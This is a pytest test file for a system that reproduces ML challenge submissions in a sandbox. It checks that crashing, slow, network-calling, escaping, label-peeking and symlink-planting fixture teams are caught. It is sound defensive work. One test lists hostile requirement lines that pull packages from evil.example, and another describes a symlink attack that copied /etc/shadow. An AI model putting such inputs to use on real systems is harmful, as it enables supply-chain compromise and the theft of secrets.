"""Reproductions end to end: real release, real sandbox, real venvs, real MLflow store.

The teams here are small fixture algorithms (standard library only, so their
environment builds in seconds): one exact, one whose code drifted from the
official submission, one that crashes, one too slow, one that phones home.
"""

from __future__ import annotations

import csv
import json
import shutil
import socket
from pathlib import Path

import pytest
import yaml

from portal.errors import ConfigError, InputError, VerificationError
from portal.release.cards import load_card
from portal.release.manifest import read_manifest
from portal.reproduce.reproduction import Reproduction, read_predictions
from portal.reproduce.sandbox import namespaces_available
from tests.conftest import challenge_project
from tests.fixture_teams import set_official, write_team

ROOT = Path(__file__).resolve().parent.parent
CARD = load_card(ROOT / "data_cards" / "datpark.md")
pytestmark = pytest.mark.skipif(
    not Path("/usr/bin/python3").exists(), reason="team environments need Debian's python3"
)


@pytest.fixture(scope="module")
def project(tmp_path_factory):
    """A project with one real release of 80 small exams and the real challenge.yaml."""
    root = challenge_project(tmp_path_factory.mktemp("project"), exams=80, seed=21)
    for team, behaviour in [
        ("exact", "exact"),
        ("drifted", "drifted"),
        ("crash", "crash"),
        ("slow", "slow"),
        ("escape", "escape"),
    ]:
        write_team(root, team, behaviour, wall=3 if team == "slow" else 120)
    return root


@pytest.fixture
def env(project, monkeypatch, tmp_path_factory):
    monkeypatch.delenv("MLFLOW_TRACKING_URI", raising=False)
    monkeypatch.setenv("PORTAL_ENV_CACHE", str(project / ".portal-envs"))
    return project


@pytest.fixture(scope="module")
def official(project):
    """The challenge's one-time run of the exact team gives the official scores."""
    set_official(project, {"exact": (0.0, 0.0)})
    import os

    os.environ.pop("MLFLOW_TRACKING_URI", None)
    os.environ["PORTAL_ENV_CACHE"] = str(project / ".portal-envs")
    first = Reproduction(project, "datpark").run("exact", repeat=False)
    record = json.loads((first.out / "record.json").read_text())
    private = record["scores"]["official"]["estimate"]
    public = json.loads((first.out / "metrics.json").read_text())["public_score"]
    teams = ["exact", "drifted", "crash", "slow", "escape"]
    set_official(project, {t: (public, private) for t in teams})
    return public, private


def test_a_deterministic_team_reproduces_bit_identically_twice(env, official):
    outcome = Reproduction(env, "datpark").run("exact")
    assert outcome.verdict.verdict.value == "reproduced", outcome.verdict.reason
    assert outcome.verdict.reproduced == pytest.approx(official[1], abs=1e-12)
    assert outcome.determinism["checked"] and outcome.determinism["identical"]
    for files in outcome.determinism["predictions"].values():
        assert files["first"] == files["repeat"] is not None
    run, repeat = (outcome.out / d / "predictions" for d in ("run", "repeat"))
    for split in ("public_test", "private_test"):
        assert (run / f"{split}.csv").read_bytes() == (repeat / f"{split}.csv").read_bytes()
    assert outcome.public_score == pytest.approx(official[0])
    record = json.loads((outcome.out / "record.json").read_text())
    manifest = read_manifest(env / "data" / "datpark" / "releases" / "1.0.0")
    assert record["release"]["content_hash"] == f"sha256:{manifest.content_hash}"
    assert record["environment"]["reused"] is True, "the official run built it already"
    assert set(record["scores"]["subgroups"]) == {"centre", "sex", "age_band", "gray_zone"}


def _untimed(value):
    """A record without what differs from one run to the next: times, memory, attempt."""
    if isinstance(value, dict):
        drop = {"wall_seconds", "cpu_seconds", "peak_memory_mb", "attempt"}
        return {k: _untimed(v) for k, v in value.items() if k not in drop}
    if isinstance(value, list):
        return [_untimed(v) for v in value]
    return value


def test_the_repeat_beside_the_hardware_check_changes_nothing_but_timings(
    env, official, monkeypatch
):
    """Two processors: the repeat and the hardware check run at the same time; the record,
    the verdict and the kept files are those of the one-after-the-other order."""
    from portal.reproduce import reproduction

    records, said, files = {}, {}, {}
    for together in (False, True):
        monkeypatch.setattr(
            reproduction, "side_by_side", lambda limits=None, together=together: together
        )
        lines: list[str] = []
        outcome = Reproduction(env, "datpark").run("exact", progress=lines.append)
        assert outcome.verdict.verdict.value == "reproduced", outcome.verdict.reason
        records[together] = json.loads((outcome.out / "record.json").read_text())
        said[together] = [x for x in lines if x.endswith(" started")]
        files[together] = sorted(
            str(p.relative_to(outcome.out)) for p in outcome.out.rglob("*") if p.is_file()
        )
    assert _untimed(records[True]) == _untimed(records[False])
    assert files[True] == files[False]
    assert records[True]["hardware_check"]["checked"] and records[True]["determinism"]["identical"]
    for together, lines in said.items():
        repeat = [i for i, x in enumerate(lines) if x.startswith("exact (repeat)")]
        hardware = [i for i, x in enumerate(lines) if x.startswith("exact (hardware)")]
        assert repeat and hardware
        # one after the other: the check starts once the repeat is over; side by side: before
        assert (hardware[0] < repeat[-1]) is together, lines


def test_code_that_drifted_beyond_the_tolerance_is_not_reproduced(env, official):
    outcome = Reproduction(env, "datpark").run("drifted", repeat=False)
    verdict = outcome.verdict
    assert verdict.verdict.value == "not reproduced", verdict.reason
    assert abs(verdict.difference) > 0.01 and not (verdict.ci[0] <= official[1] <= verdict.ci[1])
    assert "outside the 95% CI" in verdict.reason


def test_a_crash_fails_with_the_step_and_the_log_tail(env, official):
    outcome = Reproduction(env, "datpark").run("crash")
    assert outcome.verdict.verdict.value == "failed"
    assert outcome.verdict.reason.startswith("train: exited with code 1")
    record = json.loads((outcome.out / "record.json").read_text())
    assert "weights file corrupted" in record["log_tail"]
    assert "weights file corrupted" in (outcome.out / "logs" / "run-train.log").read_text()
    assert not outcome.determinism["checked"]


def test_a_team_past_its_time_limit_fails(env, official):
    outcome = Reproduction(env, "datpark").run("slow", repeat=False)
    assert outcome.verdict.verdict.value == "failed"
    assert "timeout" in outcome.verdict.reason and "3 s" in outcome.verdict.reason
    assert outcome.wall_seconds < 60


def test_a_socket_to_a_local_listener_fails_the_run(env, official):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    port = listener.getsockname()[1]
    write_team(env, "network", "network", port=port)
    set_official(env, {t: official for t in ["exact", "network"]})
    try:
        outcome = Reproduction(env, "datpark").run("network", repeat=False)
    finally:
        listener.close()
    assert outcome.verdict.verdict.value == "failed"
    assert "network attempt" in outcome.verdict.reason and str(port) in outcome.verdict.reason


@pytest.mark.skipif(not namespaces_available(), reason="needs mount and network namespaces")
def test_the_team_cannot_write_outside_its_run_directory(env, official):
    set_official(env, {t: official for t in ["exact", "escape"]})
    labels = env / "data" / "datpark" / "releases" / "1.0.0" / "metadata" / "labels.csv"
    before = labels.read_bytes()
    outcome = Reproduction(env, "datpark").run("escape", repeat=False)
    log = (outcome.out / "logs" / "run-predict-private_test.log").read_text()
    assert "WROTE" not in log and log.count("DENIED") == 2
    assert labels.read_bytes() == before and not (env / "outside.txt").exists()
    assert outcome.verdict.verdict.value == "reproduced"  # it still predicts normally
    record = json.loads((outcome.out / "record.json").read_text())
    assert all(record["attempts"]["first"][0]["isolation"].values())


def test_the_mlflow_run_holds_the_release_hash_the_freeze_and_the_artifacts(env, official):
    import mlflow

    outcome = Reproduction(env, "datpark").run("exact", repeat=False)
    import os

    assert "MLFLOW_TRACKING_URI" not in os.environ, "another project would log into this store"
    # the client, not mlflow.set_tracking_uri: that one sets the variable for every later test
    client = mlflow.tracking.MlflowClient(tracking_uri=f"sqlite:///{env / 'mlflow.db'}")
    run = client.get_run(outcome.run_id)
    content_hash = read_manifest(env / "data" / "datpark" / "releases" / "1.0.0").content_hash
    assert run.data.tags["release.content_hash"] == f"sha256:{content_hash}"
    assert run.data.tags["verdict"] == "reproduced" and "git.commit" in run.data.tags
    assert run.data.params["seed"] == "3" and run.data.params["release_version"] == "1.0.0"
    assert run.data.metrics["reproduced_balanced_accuracy"] == pytest.approx(official[1])
    (dataset,) = run.inputs.dataset_inputs
    assert dataset.dataset.name == "datpark-1.0.0" and content_hash.startswith(
        dataset.dataset.digest
    )
    listed = {a.path for a in client.list_artifacts(run.info.run_id)}
    assert {"environment.txt", "record.json", "figures", "logs", "run"} <= listed
    local = Path(client.download_artifacts(run.info.run_id, "environment.txt"))
    assert local.read_text() == (outcome.out / "environment.txt").read_text()
    figures = {Path(a.path).name for a in client.list_artifacts(run.info.run_id, "figures")}
    assert {"roc.png", "confusion.png"} <= figures
    experiment = client.get_experiment_by_name("datpark").experiment_id
    runs = client.search_runs([experiment], max_results=1000)
    attempts = [r for r in runs if r.data.tags.get("team") == "exact"]
    assert len(attempts) >= 2 and outcome.attempt == len(attempts)


def test_predictions_are_checked_row_by_row(tmp_path):
    path = tmp_path / "private_test.csv"
    path.write_text(
        "exam_id,score,label\nE1,0.9,pathological\nE1,0.2,normal\nE3,x,normal\nE4,0.1,maybe\n"
    )
    with pytest.raises(InputError) as caught:
        read_predictions(path, ["E1", "E2", "E3", "E4"], {"normal": 0, "pathological": 1})
    text = "\n".join(caught.value.problems)
    assert "row 3: exam E1 predicted twice" in text and "row 4: score 'x'" in text
    assert "row 5: label 'maybe'" in text and "not predicted" in text and "E2" in text


def test_an_altered_release_is_refused_before_any_team_runs(env, official, tmp_path):
    copy = tmp_path / "project"
    shutil.copytree(env / "reproduce", copy / "reproduce")
    shutil.copytree(env / "data_cards", copy / "data_cards")
    shutil.copytree(env / "data", copy / "data")
    target = copy / "data" / "datpark" / "releases" / "1.0.0" / "metadata" / "labels.csv"
    rows = list(csv.reader(target.open()))
    rows[1][2] = "normal" if rows[1][2] == "pathological" else "pathological"
    target.chmod(0o644)
    with target.open("w", newline="") as handle:
        csv.writer(handle).writerows(rows)
    with pytest.raises(VerificationError) as caught:
        Reproduction(copy, "datpark")
    assert "metadata/labels.csv" in caught.value.problems


def test_unknown_teams_and_bad_declarations_are_named(env, official):
    job = Reproduction(env, "datpark")
    with pytest.raises(ConfigError, match="no team 'nobody'"):
        job.team("nobody")
    bad = env / "reproduce" / "datpark" / "bad"
    shutil.copytree(env / "reproduce" / "datpark" / "exact", bad)
    declared = yaml.safe_load((bad / "algorithm.yaml").read_text())
    declared["entry_points"]["train"].append("{gpu}")
    declared["upstream"]["commit"] = "main"
    (bad / "algorithm.yaml").write_text(yaml.safe_dump(declared))
    with pytest.raises(ConfigError) as caught:
        job.team("bad")
    text = "\n".join(caught.value.problems)
    assert "upstream.commit" in text and "gpu" in text
    shutil.rmtree(bad)


def test_loose_requirements_are_refused(env, official, tmp_path):
    from portal.errors import EnvironmentBuildError
    from portal.reproduce import environments

    requirements = tmp_path / "requirements.txt"
    hostile = [
        "numpy>=2",
        "--extra-index-url=https://evil.example/simple==1",  # holds "==", was accepted
        "pkg @ https://evil.example/pkg-1.0.whl",
        "-e git+https://evil.example/pkg.git@v==1",
        "-r other.txt",
    ]
    requirements.write_text("\n".join([*hostile, "pyarrow==25.0.1", "scipy==1.17.1 ; os_name"]))
    with pytest.raises(EnvironmentBuildError) as caught:
        environments.ensure(requirements, tmp_path / "cache")
    assert caught.value.problems == hostile
    assert not (tmp_path / "cache").exists(), "nothing was built or downloaded"


def test_the_command_line_prints_the_verdict_table_and_keeps_going(env, official):
    import os
    import subprocess
    import sys

    portal = str(Path(sys.executable).parent / "portal")
    environ = {**os.environ, "PORTAL_ENV_CACHE": str(env / ".portal-envs")}
    environ.pop("MLFLOW_TRACKING_URI", None)
    set_official(env, {t: official for t in ["exact", "crash"]})
    unlisted = subprocess.run(
        [portal, "reproduce", "datpark", "slow", "exact", "--no-repeat"],
        cwd=env,
        capture_output=True,
        text=True,
        env=environ,
    )
    assert unlisted.returncode == 2, "a team off the leaderboard is a configuration error"
    assert "team slow is not on reproduce/datpark/leaderboard.csv" in unlisted.stderr
    assert "reproduced" in unlisted.stdout, "the next team still ran"
    done = subprocess.run(
        [portal, "reproduce", "datpark", "crash", "exact", "--no-repeat", "--strict"],
        cwd=env,
        capture_output=True,
        text=True,
        env=environ,
    )
    assert done.returncode == 9, done.stderr  # --strict: one team failed
    assert "crash failed: train: exited with code 1" in done.stderr
    # what it is doing while it works, and one line per team with its score and verdict
    assert "exact (run): train started" in done.stderr
    assert "exact (run): predict-private_test started" in done.stderr
    line = next(x for x in done.stderr.splitlines() if x.startswith("exact: reproduced: "))
    assert f"balanced_accuracy {official[1]:.4f} (official {official[1]:.4f}, 95% CI [" in line
    table = done.stdout
    assert "exact" in table and "reproduced" in table and "failed" in table
    metrics = json.loads((env / "runs" / "datpark" / "1.0.0" / "exact.metrics.json").read_text())
    assert metrics["reproduced_balanced_accuracy"] == pytest.approx(official[1])
    listed = subprocess.run(
        [portal, "verdicts", "datpark"], cwd=env, capture_output=True, text=True, env=environ
    )
    assert listed.returncode == 0 and "crash" in listed.stdout and "exact" in listed.stdout


def test_logging_the_release_retries_a_lost_race_for_the_dataset_row():
    """Two runs on one release may insert its dataset row at once on a tracking server;
    the loser's retry links the row the winner wrote."""
    from mlflow.exceptions import MlflowException

    from portal.reproduce.tracking import _log_inputs

    class Server:
        calls = 0

        def log_inputs(self, run_id, inputs):
            Server.calls += 1
            if Server.calls == 1:
                raise MlflowException('duplicate key value violates unique constraint "dataset_pk"')

    _log_inputs(Server(), "run", [])
    assert Server.calls == 2

    class Down:
        def log_inputs(self, run_id, inputs):
            raise MlflowException("the server is down")

    with pytest.raises(MlflowException, match="down"):
        _log_inputs(Down(), "run", [], attempts=2)


def test_no_step_sees_the_labels_of_the_split_it_predicts(env, official):
    """DaT-Park publishes every split's labels; the team's steps still get none but train's."""
    write_team(env, "peek", "peek", requirements="pyarrow==25.0.1\n")
    set_official(env, {t: official for t in ["exact", "peek"]})
    release = env / "data" / "datpark" / "releases" / "1.0.0"
    assert "pathological" in (release / "metadata" / "labels.csv").read_text()
    outcome = Reproduction(env, "datpark").run("peek", repeat=False)
    logs = outcome.out / "logs"
    train = (logs / "run-train.log").read_text()
    assert int(train.split("VISIBLE train ")[1].split()[0]) > 0, "train keeps its labels"
    for split in ("public_test", "private_test"):
        log = (logs / f"run-predict-{split}.log").read_text()
        assert f"VISIBLE {split} 0" in log, log
        assert f"PARQUET {split} " in log and f"PARQUET {split} 0" in log
        assert all(f"PARQUET {split} 0" in line for line in log.splitlines() if "PARQUET" in line)
        files = log.split("FILES ")[1].splitlines()[0]
        for left_out in ("manifest.json", "SHA256SUMS", "CHANGELOG.md", "README.md"):
            assert left_out not in files
    assert outcome.verdict.verdict.value == "reproduced", outcome.verdict.reason


def test_links_left_by_a_hostile_team_fail_the_run_and_leak_nothing(env, official, tmp_path):
    """The attack of a symlink in the model folder: logged to MLflow by root, it copied
    /etc/shadow and outside files. Now the run fails, naming the links, and no byte of
    the planted secret reaches runs/, mlartifacts/ or the command's output."""
    import subprocess
    import sys

    token = "PLANTED-SECRET-7f3a9c1e"
    secret = tmp_path / "secret.txt"
    secret.write_text(token + "\n")
    write_team(env, "hostile", "hostile", outside=secret)
    set_official(env, {t: official for t in ["exact", "hostile"]})
    done = subprocess.run(
        [sys.executable, "-m", "portal.cli", "reproduce", "datpark", "hostile"],
        cwd=env,
        capture_output=True,
        text=True,
        env={**__import__("os").environ, "PORTAL_ENV_CACHE": str(env / ".portal-envs")},
    )
    output = done.stdout + done.stderr
    assert "Traceback" not in output
    verdict = json.loads(
        (env / "runs" / "datpark" / "1.0.0" / "hostile" / "verdict.json").read_text()
    )
    assert verdict["verdict"] == "failed"
    assert verdict["reason"] == (
        "untrusted output refused: model/leak: a symbolic link, not followed or read; "
        "model/shadow: a symbolic link, not followed or read"
    )
    for folder in ("runs", "mlartifacts"):
        for path in (env / folder).rglob("*"):
            if path.is_symlink():
                pytest.fail(f"a link was kept: {path}")
            if path.is_file():
                assert token.encode() not in path.read_bytes(), path
    assert token not in output


def test_the_checks_run_side_by_side_only_when_memory_allows_both_at_their_caps():
    from portal.reproduce.reproduction import _available_memory, side_by_side
    from portal.reproduce.sandbox import Limits

    available = _available_memory()
    assert available > 0
    small = Limits(memory_bytes=available // 8, write_bytes=available // 16)
    huge = Limits(memory_bytes=available // 2, write_bytes=available // 4)
    assert side_by_side(huge) is False  # 1.5 x the available memory for the two
    assert side_by_side(small) is side_by_side()  # then only the processors decide
